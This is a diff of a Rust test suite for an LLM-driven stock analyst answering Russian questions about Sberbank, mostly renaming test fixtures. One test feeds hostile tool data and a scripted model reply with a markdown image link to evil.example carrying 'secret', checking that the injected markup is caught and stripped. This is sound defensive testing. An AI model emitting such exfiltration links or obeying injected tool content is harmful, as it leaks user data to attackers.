@@ -12,9 +12,9 @@ use serde_json::{Map, Value, json};
 use tokio::time::Instant;
 use tokio_util::sync::CancellationToken;
 
-use super::floor::{Asked, Floor, TODAY};
+use super::floor::{Asked, FakeTools, TODAY};
 use super::laws::lawful;
-use crate::{Analyst, Desk, ModelPlanner, ModelWriter, Question, Shelf, ToolCaller};
+use crate::{Analyst, Evidence, ModelPlanner, ModelWriter, Question, ToolCaller, ToolSession};
 
 const APIS: [Api; 2] = [Api::OpenAi, Api::Anthropic];
 const QUESTION: &str = "Как дела у Сбербанка?";
@@ -35,7 +35,7 @@ fn reader() -> Caller {
 /// Asks an analyst whose model follows a script.
 async fn ask(
     api: Api,
-    floor: Floor,
+    floor: FakeTools,
     script: Vec<ScriptedResponse>,
     question: &str,
     patience: Duration,
@@ -47,8 +47,13 @@ async fn ask(
     (asked(model, floor, question, patience).await, server)
 }
 
-async fn asked(model: Arc<dyn Model>, floor: Floor, question: &str, patience: Duration) -> Asked {
-    let (floor, shelf) = (Arc::new(floor), Arc::new(Shelf::moex().unwrap()));
+async fn asked(
+    model: Arc<dyn Model>,
+    floor: FakeTools,
+    question: &str,
+    patience: Duration,
+) -> Asked {
+    let (floor, shelf) = (Arc::new(floor), Arc::new(Evidence::moex().unwrap()));
     let planner = Arc::new(ModelPlanner::new(Arc::clone(&model), Arc::clone(&shelf)));
     let writer = Arc::new(ModelWriter::new(model, shelf));
     let analyst = Analyst::with(floor.clone(), Arc::new(Noon), planner, writer, "loopback");
@@ -58,13 +63,14 @@ async fn asked(model: Arc<dyn Model>, floor: Floor, question: &str, patience: Du
         sink.lock().push((done, message.to_owned()));
     });
     let (caller, cancel) = (reader(), CancellationToken::new());
-    let desk = Desk::new(&*floor, &caller, &cancel, Instant::now() + patience, &progress);
+    let tool_session =
+        ToolSession::new(&*floor, &caller, &cancel, Instant::now() + patience, &progress);
     let question = Question { asked: vec![question.to_owned()], locale: None };
-    let mut answer = analyst.answer(&question, &desk).await.unwrap();
+    let mut answer = analyst.answer(&question, &tool_session).await.unwrap();
     let told = told.lock().clone();
     assert!(told.is_sorted_by(|a, b| a.0 < b.0), "progress goes on: {told:?}");
     answer.debug["told"] = told.into_iter().map(|it| it.1).collect();
-    let asked = Asked { answer, findings: desk.findings() };
+    let asked = Asked { answer, findings: tool_session.findings() };
     lawful(&asked, &question.asked.join("\n"));
     asked
 }
@@ -76,7 +82,7 @@ fn snapshot() -> ScriptedResponse {
 /// The price as the tool says it.
 async fn price() -> f64 {
     let args: Map<String, Value> = [("ticker".to_owned(), json!("SBER"))].into_iter().collect();
-    let (floor, cancel) = (Floor::default(), CancellationToken::new());
+    let (floor, cancel) = (FakeTools::default(), CancellationToken::new());
     let until = Instant::now() + LONG;
     let answer = floor.call(&reader(), "get_security_snapshot", args, &cancel, until).await;
     answer.unwrap().result["data"]["last_price"].as_f64().unwrap()
@@ -131,7 +137,7 @@ async fn a_good_answer_is_given_with_its_citations() {
         let price = price().await;
         let script =
             vec![snapshot(), ScriptedResponse::text("READY"), ScriptedResponse::text(&text(price))];
-        let (asked, server) = ask(api, Floor::default(), script, QUESTION, LONG).await;
+        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
         is_models(&asked);
         let draft = &asked.answer.draft;
         assert!(draft.text.starts_with(&text(price)), "{}", draft.text);
@@ -159,7 +165,7 @@ async fn an_unsupported_number_is_mended_once() {
             wrong,
             ScriptedResponse::text(&text(price)),
         ];
-        let (asked, server) = ask(api, Floor::default(), script, QUESTION, LONG).await;
+        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
         is_models(&asked);
         let told = format!("{:.2}", price + 1.0).replace('.', ",");
         assert!(spoken(&server.requests()[3].body)[1].contains(&told), "the number is named");
@@ -171,7 +177,7 @@ async fn a_number_that_stays_unsupported_never_leaves() {
     for api in APIS {
         let wrong = ScriptedResponse::text(&text(987_654.0));
         let script = vec![snapshot(), ScriptedResponse::text("READY"), wrong.clone(), wrong];
-        let (asked, server) = ask(api, Floor::default(), script, QUESTION, LONG).await;
+        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
         is_local(&asked, "unsupported_numbers");
         assert!(!asked.answer.draft.text.contains("987"));
         assert_eq!(server.requests().len(), 4);
@@ -194,7 +200,7 @@ async fn calls_that_are_not_in_order_are_refused_and_the_model_is_told() {
             ScriptedResponse::text("READY"),
             ScriptedResponse::text(&text(price)),
         ];
-        let (asked, server) = ask(api, Floor::default(), script, QUESTION, LONG).await;
+        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
         is_models(&asked);
         assert_eq!(asked.findings.len(), 1, "only the good call is made");
         let told = &spoken(&server.requests()[1].body)[2];
@@ -218,14 +224,14 @@ async fn endless_calls_come_to_an_end() {
         };
         let text = ScriptedResponse::text("## Резюме\nSBER торгуется.");
         let script: Vec<ScriptedResponse> = (0..4).map(many).chain([text]).collect();
-        let (asked, server) = ask(api, Floor::default(), script, QUESTION, LONG).await;
+        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
         is_models(&asked);
         assert_eq!((asked.findings.len(), server.requests().len()), (12, 5));
         assert!(spoken(&server.requests()[3].body)[2].contains("no more calls may be made"));
         // The same call again and again is one call.
         let script =
             (0..4).map(|_| snapshot()).chain([ScriptedResponse::text("## Резюме\nВсё.")]).collect();
-        let (asked, _) = ask(api, Floor::default(), script, QUESTION, LONG).await;
+        let (asked, _) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
         assert_eq!(asked.findings.len(), 1);
     }
 }
@@ -263,7 +269,7 @@ async fn whatever_is_wrong_with_the_model_the_rules_answer() {
     ];
     for api in APIS {
         for (script, reason) in &cases {
-            let (asked, _) = ask(api, Floor::default(), script.clone(), QUESTION, LONG).await;
+            let (asked, _) = ask(api, FakeTools::default(), script.clone(), QUESTION, LONG).await;
             is_local(&asked, reason);
         }
     }
@@ -278,14 +284,14 @@ async fn a_model_that_is_not_there_or_never_answers_does_not_hold_up_the_rules()
         config.base_url = "http://127.0.0.1:1/v1".to_owned();
         drop(gone);
         let model = Arc::new(ModelClient::new(config).unwrap());
-        is_local(&asked(model, Floor::default(), QUESTION, LONG).await, "llm_unreachable");
+        is_local(&asked(model, FakeTools::default(), QUESTION, LONG).await, "llm_unreachable");
 
         let short = Duration::from_millis(1_500);
         for script in [
             vec![ScriptedResponse::Silent],
             vec![snapshot(), ScriptedResponse::text("READY"), ScriptedResponse::Silent],
         ] {
-            let (asked, _server) = ask(api, Floor::default(), script, QUESTION, short).await;
+            let (asked, _server) = ask(api, FakeTools::default(), script, QUESTION, short).await;
             is_local(&asked, "llm_timeout");
         }
     }
@@ -305,7 +311,7 @@ async fn hostile_names_are_data_and_nothing_else() {
         let number = ScriptedResponse::text("## Резюме\nЦена SBER — 31337 ₽ [1][2]");
         let link = ScriptedResponse::text("## Резюме\n![x](https://evil.example/?q=secret)");
         let script = vec![search, fooled, ScriptedResponse::text("READY"), number, link];
-        let floor = Floor { hostile: Some(hostile), ..Floor::default() };
+        let floor = FakeTools { hostile: Some(hostile), ..FakeTools::default() };
         let (asked, server) = ask(api, floor, script, "Как дела у SBER?", LONG).await;
         is_local(&asked, "model_wrote_markup");
         assert!(!asked.answer.draft.text.contains("evil"));
@@ -330,7 +336,7 @@ async fn what_the_model_does_is_told_but_not_its_words() {
         let wrong = ScriptedResponse::text(&text(987_654.0));
         let script =
             vec![snapshot(), ScriptedResponse::text("READY"), wrong, ScriptedResponse::text(&long)];
-        let (asked, _) = ask(api, Floor::default(), script, QUESTION, LONG).await;
+        let (asked, _) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
         is_models(&asked);
         let told: Vec<&str> = asked.answer.debug["told"]
             .as_array()
@@ -374,7 +380,7 @@ async fn the_tables_are_those_of_the_rules() {
             ScriptedResponse::text("## Резюме\nБумаги сравнимы."),
         ];
         let (asked, _) =
-            ask(api, Floor::default(), script, "Сравни Сбербанк и Газпром", LONG).await;
+            ask(api, FakeTools::default(), script, "Сравни Сбербанк и Газпром", LONG).await;
         is_models(&asked);
         let tables = &asked.answer.draft.tables;
         assert_eq!((tables.len(), &tables[0]["title"]), (1, &json!("Сравнение")));
@@ -391,7 +397,7 @@ async fn the_tables_are_those_of_the_rules() {
             ScriptedResponse::text("## Резюме\nНет данных."),
         ];
         let (asked, _) =
-            ask(api, Floor::default(), script, "Сравни Сбербанк и Газпром", LONG).await;
+            ask(api, FakeTools::default(), script, "Сравни Сбербанк и Газпром", LONG).await;
         assert!(asked.answer.draft.tables.is_empty(), "{:?}", asked.answer.draft.tables);
     }
 }
@@ -405,11 +411,11 @@ async fn an_answer_that_breaks_off_is_asked_for_once_more() {
             ScriptedResponse::Cut(reply(&text(price), vec![]), 900),
         );
         let script = vec![snapshot(), ScriptedResponse::text("READY"), cut.clone(), good];
-        let (asked, server) = ask(api, Floor::default(), script, QUESTION, LONG).await;
+        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
         is_models(&asked);
         assert_eq!(server.requests().len(), 4);
         let script = vec![snapshot(), ScriptedResponse::text("READY"), cut.clone(), cut];
-        let (asked, _) = ask(api, Floor::default(), script, QUESTION, LONG).await;
+        let (asked, _) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
         is_local(&asked, "llm_cut_short");
     }
 }
